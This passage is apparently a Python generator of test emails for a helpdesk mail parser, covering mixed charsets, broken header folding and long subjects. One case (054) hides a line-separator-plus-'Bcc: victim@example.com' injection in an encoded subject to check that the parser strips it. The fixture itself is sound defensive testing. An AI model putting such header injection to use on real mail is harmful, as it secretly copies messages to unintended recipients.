            "References: <001@qiye.example.cn>\r\n <ack-123@zxzj.example.cn>,<ack-123@zxzj.example.cn>",
        ],
    )
    raw = mail(
        headers + ["Content-Type: text/plain; charset=utf-8"], "好的，谢谢。\r\n\r\n> 您的来函已收到\r\n"
    )
    return raw.replace(b"\r\n", b"\n")  # some gateways hand over bare LF


@case("042-latin1-label-gbk-bytes")
def _() -> bytes:
    headers = envelope("latin-1 label", message_id="<042@qiye.example.cn>", date="2024-06-03 10:15:00")
    body = "这封邮件声明为 ISO-8859-1，内容却是 GBK 中文。\r\n".encode("gbk")
    return mail(headers + ["Content-Type: text/plain; charset=iso-8859-1"], body)


@case("043-flowed-and-folded-headers")
def _() -> bytes:
    headers = envelope(
        lines("Re: a very long subject that the sender's", "\tclient folded with a tab"),
        sender=lines('"Zhao,', ' Lei" <ZhaoLei@Qiye.example.cn>'),
        message_id=lines("<043", " @qiye.example.cn>"),
        date="Mon, 3 Jun 2024 10:15:00 +0800 (CST)",
    )
    body = "This paragraph is flowed, and it \r\ncontinues on the next line.\r\n-- \r\nZhao Lei\r\n"
    return mail(headers + ["Content-Type: text/plain; charset=utf-8; format=flowed"], body)


@case("044-raw-gbk-sender-with-backslash-byte")
def _() -> bytes:
    # 誠 is D5 5C in GBK: a parser that takes 5C for a backslash loses the closing quote and the address
    headers = envelope(
        "诚信问题".encode("gbk"),
        sender='"誠信进出口有限公司" <Office@ChengXin.example.cn>'.encode("gbk"),
        message_id="<044@chengxin.example.cn>",
        extra=['Cc: "誠" <boss@chengxin.example.cn>'.encode("gbk")],
    )
    return mail(headers + ["Content-Type: text/plain; charset=gbk"], "诚信承诺书已盖章。\r\n".encode("gbk"))


# Decoding cases from public mail test suites (issue 11, item 7)


@case("045-iso-2022-jp")
def _() -> bytes:
    # ISO-2022-JP is pure 7-bit: an "ASCII only" shortcut leaves its escape sequences in the text
    name = "山田太郎".encode("iso2022_jp")
    headers = envelope(
        ew_b("お問い合わせ：申請書について", "ISO-2022-JP"),
        sender=b'"' + name + b'" <yamada@example.co.jp>',  # raw, unencoded: still announced by ESC $ B
        message_id="<045@example.co.jp>",
    )
    body = "申請書を添付しました。\r\nよろしくお願いいたします。\r\n".encode("iso2022_jp")
    return mail(
        headers + ["Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"], body
    )


@case("046-iso-2022-kr")
def _() -> bytes:
    headers = envelope(ew_b("신청서 문의", "ISO-2022-KR"), message_id="<046@example.co.kr>")
    body = "신청서를 첨부합니다.\r\n".encode("iso2022_kr")
    return mail(headers + ["Content-Type: text/plain; charset=ISO-2022-KR"], body)


def iso2022_cn(text: str) -> bytes:
    """GB 2312 text in ISO-2022-CN (RFC 1922): ESC $ ) A once per line, SO ... SI around the Chinese."""
    out = bytearray()
    for line in text.split("\r\n"):
        if any(ord(ch) > 0x7F for ch in line):
            out += b"\x1b$)A"
        shifted = False
        for ch in line:
            wide = ord(ch) > 0x7F
            if wide != shifted:
                out += b"\x0e" if wide else b"\x0f"
                shifted = wide
            out += bytes(b & 0x7F for b in ch.encode("gb2312")) if wide else ch.encode()
        if shifted:
            out += b"\x0f"
        out += b"\r\n"
    return bytes(out[:-2])


@case("047-iso-2022-cn")
def _() -> bytes:
    subject = iso2022_cn("关于变更联系人的函")
    headers = envelope(ew_b_bytes(subject, "ISO-2022-CN"), message_id="<047@qiye.example.cn>")
    body = iso2022_cn("外贸发展专项资金管理办公室：\r\n我司申请变更联系人。\r\n")
    return mail(headers + ["Content-Type: text/plain; charset=ISO-2022-CN"], body)


@case("048-stray-line-in-header-block")
def _() -> bytes:
    # a broken folding: the second half of To lost its indentation; Subject and From come after it
    headers = [
        "Received: from mx.qiye.example.cn by mx.zxzj.example.cn; Mon, 3 Jun 2024 10:15:02 +0800",
        f"To: {OURS},",
        "wangfang@qiye.example.cn",
        f"Subject: {ew_b('变更说明（联系人）')}",
        "From: Li Ming <liming@qiye.example.cn>",
        "Date: Mon, 3 Jun 2024 10:15:00 +0800",
        "Message-ID: <048@qiye.example.cn>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
    ]
    return mail(headers, "附件是变更说明。\r\n")


@case("049-raw-shift-jis-headers")
def _() -> bytes:
    headers = envelope(
        "申請書の件".encode("shift_jis"),
        sender="山田太郎 <yamada@example.co.jp>".encode("shift_jis"),
        message_id="<049@example.co.jp>",
    )
    body = "申請書を添付しました。\r\n".encode("shift_jis")
    return mail(headers + ["Content-Type: text/plain; charset=Shift_JIS"], body)


@case("050-raw-latin1-headers")
def _() -> bytes:
    headers = envelope(
        "Demande de modification".encode("latin-1"),
        sender="François Müller <f.muller@example.fr>".encode("latin-1"),
        message_id="<050@example.fr>",
    )
    body = "Veuillez trouver ci-joint la lettre signée.\r\n".encode("latin-1")
    return mail(headers + ["Content-Type: text/plain; charset=iso-8859-1"], body)


@case("051-reply-to-when-from-is-empty")
def _() -> bytes:
    headers = envelope("账号找回", sender="undisclosed-sender:;", message_id="<051@qiye.example.cn>")
    headers.insert(1, "Reply-To: 王芳 <WangFang@Qiye.Example.CN>")
    headers.insert(2, "Sender: relay@mailer.example.net")
    return mail(headers + ["Content-Type: text/plain; charset=utf-8"], "请帮忙找回账号。\r\n")


@case("052-rfc822-attachment-with-a-name")
def _() -> bytes:
    inner = _inner_letter("<orig-052@qiye.example.cn>", "原始来函", None)
    headers = envelope(ew_b("转发：原始来函"), message_id="<052@qiye.example.cn>")
    body = lines(
        "--outer",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "原邮件作为附件转发。",
        "--outer",
        f'Content-Type: message/rfc822; name="{ew_b("原始来函.eml")}"',
        "",
        inner,
        "--outer--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/mixed; boundary="outer"'], body)


LONG_SUBJECT = "关于申请变更企业统一社会信用代码及组织机构代码的函（第二次补充材料）" * 20  # 700 characters


@case("053-long-subject")
def _() -> bytes:
    data = LONG_SUBJECT.encode()
    words = [ew_b_bytes(data[i : i + 45], "UTF-8") for i in range(0, len(data), 45)]  # cuts inside characters
    headers = envelope("\r\n ".join(words), message_id="<053@qiye.example.cn>")
    return mail(headers + ["Content-Type: text/plain; charset=utf-8"], "主题很长。\r\n")


@case("054-line-breaks-in-header-values")
def _() -> bytes:
    # encoded words may carry any character: every line-break class and control character must go
    headers = envelope(
        ew_b("第一行\u2028Bcc: victim@example.com\u0085第三行\u2029\x0b\x0c\x1c\x1d\x1e\x07结束"),
        sender='"' + ew_b("李\u2028明") + '" <liming@qiye.example.cn>',
        message_id="<054@qiye.example.cn>",
    )
    body = lines(
        "--b1",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "见附件。",
        "--b1",
        "Content-Type: application/pdf",
        "Content-Transfer-Encoding: base64",
        'Content-Disposition: attachment; filename="' + ew_b("函\u2028件\x85.pdf") + '"',
        "",
        b64(pdf_bytes("linebreaks")),
        "--b1--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/mixed; boundary="b1"'], body)


# ---------------------------------------------------------------------------------------------------
# JSON form of a ParsedMail, and the command line
# ---------------------------------------------------------------------------------------------------


def to_jsonable(value: Any) -> Any:
    """A ParsedMail as plain JSON data: attachment bytes become {"size", "sha256"}, datetimes ISO."""
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return {f.name: to_jsonable(getattr(value, f.name)) for f in dataclasses.fields(value)}
    if isinstance(value, bytes):
        return {"size": len(value), "sha256": hashlib.sha256(value).hexdigest()}
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, tuple | list):
        return [to_jsonable(v) for v in value]
    return value


def build_all() -> dict[str, bytes]:
    """Every golden input, by file stem."""
    return {name: build() for name, build in CASES.items()}


def main(argv: list[str]) -> int:
    regenerate = "--regenerate" in argv
    DATA.mkdir(parents=True, exist_ok=True)
    if regenerate:
        sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
        from helpdesk.mail.parse import parse_mail

    for name, raw in build_all().items():
        (DATA / f"{name}.eml").write_bytes(raw)
        if regenerate:
            parsed = parse_mail(raw, **OPTIONS.get(name, {}))
            text = json.dumps(to_jsonable(parsed), ensure_ascii=False, indent=2) + "\n"
            (DATA / f"{name}.json").write_text(text, encoding="utf-8")
        print(f"{name}.eml  {len(raw):>6} bytes")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
